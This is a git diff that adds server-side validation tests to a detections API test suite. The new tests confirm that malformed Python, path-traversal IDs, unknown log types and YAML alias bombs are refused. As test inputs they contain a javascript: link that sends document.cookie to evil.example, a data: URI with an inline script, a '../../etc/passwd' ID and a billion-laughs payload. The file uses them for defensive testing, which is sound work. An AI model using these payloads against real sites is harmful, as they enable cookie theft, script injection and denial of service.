@@ -1,10 +1,12 @@
 // The detections API through the local runtime: create, update with versions, enable and disable, delete,
-// unit tests run on the server through the engine with the specification's texts, bulk upload (and its
-// validation) of a zip made from the fixture repository, bad archives, and per-type permissions.
+// unit tests run on the server through the engine with the specification's texts, the save checks (the
+// engine's reading of the Python, ids, links, log types), bulk upload (and its validation) of a zip made from
+// the fixture repository, bad archives, and per-type permissions.
 import { readdirSync, readFileSync, statSync } from 'node:fs';
 import { join, relative, sep } from 'node:path';
 import { zipSync } from 'fflate';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { billionLaughs } from '../../core/billion-laughs';
 import { graphql, signIn, startTestRuntime, type TestRuntime } from '../../local/harness';
 
 const FIXTURE = join(import.meta.dirname, '..', '..', 'engine', 'fixtures', 'analysis');
@@ -12,13 +14,20 @@ let runtime: TestRuntime;
 let admin: string;
 let analyst: string;
 
+/** The fixture's log types (no schema has their names) mapped to managed ones, as a deployment's content names them. */
+const deploymentLogTypes = (text: string) =>
+  text.replace(/\bFixture\.Auth\b(?!\.)/g, 'Okta.SystemLog').replace(/\bFixture\.Admin\b(?!\.)/g, 'GitHub.Audit');
+
 function zipBase64(folder: string): string {
   const files: Record<string, Uint8Array> = {};
   const walk = (dir: string) => {
     for (const name of readdirSync(dir)) {
       const path = join(dir, name);
       if (statSync(path).isDirectory()) walk(path);
-      else files[relative(folder, path).split(sep).join('/')] = readFileSync(path);
+      else
+        files[relative(folder, path).split(sep).join('/')] = new TextEncoder().encode(
+          deploymentLogTypes(readFileSync(path, 'utf8')),
+        );
     }
   };
   walk(folder);
@@ -171,6 +180,92 @@ describe('one detection', () => {
       /pageSize must be a whole number from 1 to 999/,
     );
     await expect(call(admin, LIST, { input: { cursor: '../../etc' } })).rejects.toThrow(/cursor is not valid/);
+  });
+});
+
+describe('save checks', () => {
+  const refusal = async (input: Record<string, unknown>, mutation = CREATE) => {
+    const { body } = await graphql(runtime, { query: mutation, variables: { input } }, admin);
+    return body.errors?.map((e) => ({ type: e.errorType, message: e.message }));
+  };
+  const rule = (change: (yaml: string) => string) => change(RULE_YAML.replace('Api.Rule', 'Api.Checked'));
+
+  it.each([
+    [
+      'a Python syntax error, with its line',
+      { yaml: rule((y) => y), body: 'def rule(event)\n    return True\n' },
+      /^body: line 1: SyntaxError: /,
+    ],
+    [
+      'a rule without rule()',
+      { yaml: rule((y) => y), body: 'def matches(event):\n    return True\n' },
+      /^body: the detection needs a top-level function `def rule\(event\):`$/,
+    ],
+    [
+      'a policy without policy()',
+      {
+        yaml: 'AnalysisType: policy\nPolicyID: Api.Policy\nEnabled: true\nSeverity: Low\nResourceTypes: [AWS.S3.Bucket]\nFilename: p.py\n',
+        body: 'def rule(resource):\n    return True\n',
+      },
+      /^body: the detection needs a top-level function `def policy\(resource\):`$/,
+    ],
+    [
+      'an unknown log type',
+      { yaml: rule((y) => y.replace('[AWS.CloudTrail]', '[AWS.CloudTrail, Nope.Nothing]')), body: RULE_BODY },
+      /^LogTypes: Unknown log type: Nope.Nothing$/,
+    ],
+    [
+      'a RuleID that is a path',
+      { yaml: rule((y) => y.replace('RuleID: Api.Checked', 'RuleID: ../../etc/passwd')), body: RULE_BODY },
+      /^RuleID: Must start with a letter or digit and hold only letters, digits, dots, underscores and hyphens$/,
+    ],
+    [
+      'a javascript: Reference',
+      { yaml: rule((y) => `${y}Reference: javascript:fetch('//evil.example/'+document.cookie)\n`), body: RULE_BODY },
+      /^Reference: Must be an http or https link, not javascript:$/,
+    ],
+    [
+      'a data: Runbook',
+      { yaml: rule((y) => `${y}Runbook: " data:text/html,<script>alert(1)</script>"\n`), body: RULE_BODY },
+      /^Runbook: Must be an http or https link, not data:$/,
+    ],
+  ])('refuse %s, saving nothing', async (_case, input, message) => {
+    expect(await refusal(input)).toEqual([{ type: 'InvalidInput', message: expect.stringMatching(message) }]);
+    for (const id of ['Api.Checked', 'Api.Policy', '../../etc/passwd'])
+      expect(await call(admin, 'query($id: ID!) { detection(id: $id) { id } }', { id })).toEqual({ detection: null });
+  });
+
+  it('name every problem of a detection at once', async () => {
+    const yaml = rule((y) => `${y.replace('[AWS.CloudTrail]', '[Nope.Nothing]')}Reference: vbscript:x\n`);
+    const refused = await refusal({ yaml, body: 'def rule(event:\n' });
+    expect(refused?.[0].message).toMatch(
+      /^Reference: Must be an http or https link, not vbscript:; LogTypes: Unknown log type: Nope.Nothing; body: line 1: SyntaxError/,
+    );
+  });
+
+  it('refuse an update that breaks the Python, keeping the saved version', async () => {
+    const created = await call<{ createDetection: { versionId: number } }>(admin, CREATE, {
+      input: { yaml: rule((y) => y), body: RULE_BODY },
+    });
+    expect(created.createDetection.versionId).toBe(1);
+    expect(await refusal({ yaml: rule((y) => y), body: 'def rule(event):\nreturn True\n', versionId: 1 }, UPDATE)).toEqual([
+      { type: 'InvalidInput', message: expect.stringMatching(/^body: line 2: IndentationError: /) },
+    ]);
+    const kept = await call<{ detection: { versionId: number; body: string } }>(
+      admin,
+      'query { detection(id: "Api.Checked") { versionId body } }',
+    );
+    expect(kept.detection).toEqual({ versionId: 1, body: RULE_BODY });
+    await call(admin, 'mutation { deleteDetection(id: "Api.Checked") { id } }');
+  });
+
+  it('refuse unit tests written as a billion-laughs document, before anything is expanded', async () => {
+    await call(admin, CREATE, { input: { yaml: rule((y) => y), body: RULE_BODY } });
+    const testsYaml = `${billionLaughs()}\n`;
+    await expect(call(admin, TESTS, { input: { id: 'Api.Checked', testsYaml } })).rejects.toThrow(
+      'InvalidInput: Invalid test: YAML aliases are not allowed (line 2, column 8)',
+    );
+    await call(admin, 'mutation { deleteDetection(id: "Api.Checked") { id } }');
   });
 });
 
